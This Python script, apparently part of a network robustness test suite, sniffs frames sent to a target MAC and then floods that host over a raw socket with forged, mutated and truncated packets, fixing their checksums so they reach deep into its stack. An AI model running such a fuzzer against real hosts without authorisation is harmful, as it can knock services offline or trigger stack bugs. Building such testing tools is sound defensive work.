# SPDX-License-Identifier: GPL-2.0-only
"""Sends frames that no honest host sends; a program that runs in a host.

Usage: hostile_program.py INTERFACE MAC ADDRESS SECONDS RATE SEED

It listens for a while to what passes to the Ethernet address MAC, and then sends RATE frames a second there: noise,
forged packets for every protocol and port of ADDRESS, and what it heard, with some bytes changed, cut, or with another
payload. Checksums of most are right, so that they get as far as possible. It writes JSON: how many frames it heard and
sent.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time

_ETH_P_ALL = 3
_LISTEN_SECONDS = 1.0
_MOST_SAMPLES = 1000
_FRAMES = 20_000  # are made before the first is sent, and sent again and again
_PAUSE_SECONDS = 0.005

_ETHERNET_BYTES = 14
_IP_BYTES = 20
_LARGEST_BYTES = 1514
_IPV4, _ARP, _IPV6 = b"\x08\x00", b"\x08\x06", b"\x86\xdd"
_ICMP, _TCP, _UDP = 1, 6, 17
_CHECKSUM_AT = {_ICMP: 2, _TCP: 16, _UDP: 6}  # in the header of the protocol


def _checksum(data: bytes) -> int:
    """Of the Internet, RFC 1071."""
    words = struct.unpack(f"!{(len(data) + 1) // 2}H", data + bytes(len(data) % 2))
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def finish(frame: bytearray) -> bytearray:
    """Put the lengths and checksums right that are in a frame of IPv4."""
    ip = _ETHERNET_BYTES
    if len(frame) < ip + _IP_BYTES or frame[12:14] != _IPV4:
        return frame
    transport = ip + 4 * max(5, frame[ip] & 15)
    frame[ip + 2 : ip + 4] = struct.pack("!H", len(frame) - ip)
    frame[ip + 10 : ip + 12] = bytes(2)
    frame[ip + 10 : ip + 12] = struct.pack("!H", _checksum(bytes(frame[ip:transport])))
    protocol, length = frame[ip + 9], len(frame) - transport
    at = transport + _CHECKSUM_AT.get(protocol, 0)
    if protocol not in _CHECKSUM_AT or at + 2 > len(frame):
        return frame
    if protocol == _UDP:
        frame[transport + 4 : transport + 6] = struct.pack("!H", length)
    frame[at : at + 2] = bytes(2)
    pseudo = b"" if protocol == _ICMP else bytes(frame[ip + 12 : ip + 20])
    pseudo += b"" if protocol == _ICMP else struct.pack("!HH", protocol, length)
    frame[at : at + 2] = struct.pack("!H", _checksum(pseudo + bytes(frame[transport:])))
    return frame


class Forger:
    """Makes frames for a host out of what was heard."""

    def __init__(self, mac: bytes, address: bytes, samples: list[bytes], seed: int) -> None:
        self._random = random.Random(seed)
        self._mac = mac
        self._address = address
        self._samples = samples
        self._ports = [
            sample[at : at + 2]
            for sample in samples
            if sample[12:14] == _IPV4 and len(sample) >= 38
            for at in (34, 36)
        ]

    def frame(self) -> bytes:
        """The next frame."""
        kinds = [self._noise, self._forged]
        if self._samples:
            kinds += [self._changed, self._cut, self._other_payload]
        frame = self._random.choice(kinds)()
        if self._random.random() < 0.9:
            frame = finish(frame)
        return bytes(frame[:_LARGEST_BYTES])

    def _bytes(self, least: int, most: int) -> bytes:
        return self._random.randbytes(self._random.randint(least, most))

    def _noise(self) -> bytearray:
        kind = self._random.choice([_IPV4, _ARP, _IPV6, self._bytes(2, 2)])
        head = self._mac + b"\x02" + self._bytes(5, 5)
        return bytearray((head + kind + self._bytes(0, 1500))[: self._random.randint(1, 1514)])

    def _forged(self) -> bytearray:
        protocol = self._random.choice([_ICMP, _TCP, _UDP, self._random.randrange(256)])
        fragment = self._random.choice([0, 0, 0x4000, 0x2000, self._random.randrange(0x10000)])
        source = self._random.choice([b"\x0a\x00\x00" + self._bytes(1, 1), self._bytes(4, 4)])
        first = self._random.choice([0x45, 0x45, 0x45, 0x40 + self._random.randrange(16)])
        ip = struct.pack("!BBHHHBBH", first, 0, 0, 0, fragment, 64, protocol, 0)
        ports = [self._bytes(2, 2), self._bytes(2, 2)]
        if self._ports:
            ports = [
                self._random.choice([port, self._random.choice(self._ports)]) for port in ports
            ]
        words = self._random.choice([5, 5, 6, 10, self._random.randrange(16)])
        tcp = self._bytes(8, 8) + bytes([words << 4]) + self._bytes(7, 7)
        head = b"".join(ports) + (tcp if protocol == _TCP else b"")
        link = self._mac + b"\x02" + self._bytes(5, 5) + _IPV4
        return bytearray(link + ip + source + self._address + head + self._bytes(0, 1400))

    def _sample(self) -> bytearray:
        return bytearray(self._random.choice(self._samples))

    def _changed(self) -> bytearray:
        frame = self._sample()
        for _ in range(self._random.randint(1, 8)):
            place = self._random.randrange(min(_ETHERNET_BYTES, len(frame) - 1), len(frame))
            frame[place] = self._random.choice(
                [0, 1, 0x7F, 0x80, 0xFF, self._random.randrange(256)]
            )
        return frame

    def _cut(self) -> bytearray:
        frame = self._sample()
        return frame[: self._random.randint(1, len(frame))]

    def _other_payload(self) -> bytearray:
        frame = self._sample()
        kept = self._random.randint(_ETHERNET_BYTES + _IP_BYTES, _ETHERNET_BYTES + _IP_BYTES + 60)
        return frame[:kept] + self._bytes(0, 1400)


def hear(wire: socket.socket, mac: bytes) -> list[bytes]:
    """What passes to an address, in either direction of the interface."""
    samples = []
    end = time.monotonic() + _LISTEN_SECONDS
    while len(samples) < _MOST_SAMPLES and time.monotonic() < end:
        wire.settimeout(max(0.001, end - time.monotonic()))
        try:
            frame = wire.recv(65536)
        except TimeoutError:
            break
        if frame[:6] == mac and len(frame) > _ETHERNET_BYTES:
            samples.append(frame)
    return samples


def attack(wire: socket.socket, frames: list[bytes], seconds: float, rate: float) -> int:
    """Send frames at a rate; those that are late are sent at once. What the kernel refuses does not count."""
    sent = tried = 0
    start = time.monotonic()
    while (passed := time.monotonic() - start) < seconds:
        while tried < passed * rate:
            try:
                wire.send(frames[tried % len(frames)])
                sent += 1
            except OSError:
                pass
            tried += 1
        time.sleep(_PAUSE_SECONDS)
    return sent


def main(interface: str, mac: str, address: str, seconds: str, rate: str, seed: str) -> None:
    """Listen, forge, send, and tell."""
    target = bytes.fromhex(mac.replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as wire:
        wire.bind((interface, 0))
        samples = hear(wire, target)
        forger = Forger(target, socket.inet_aton(address), samples, int(seed))
        frames = [frame for frame in (forger.frame() for _ in range(_FRAMES)) if frame]
        sent = attack(wire, frames, float(seconds), float(rate))
    print(json.dumps({"heard": len(samples), "sent": sent}))


if __name__ == "__main__":
    main(*sys.argv[1:])
